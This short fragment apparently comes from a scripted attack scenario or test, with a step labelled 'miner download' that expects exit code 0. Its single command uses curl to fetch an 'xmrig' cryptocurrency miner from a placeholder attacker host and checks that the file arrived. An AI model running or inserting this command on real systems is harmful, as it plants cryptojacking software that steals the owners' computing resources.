# step: miner download
# ends with: 0
curl -sO -m 10 http://attacker/xmrig && test -s xmrig
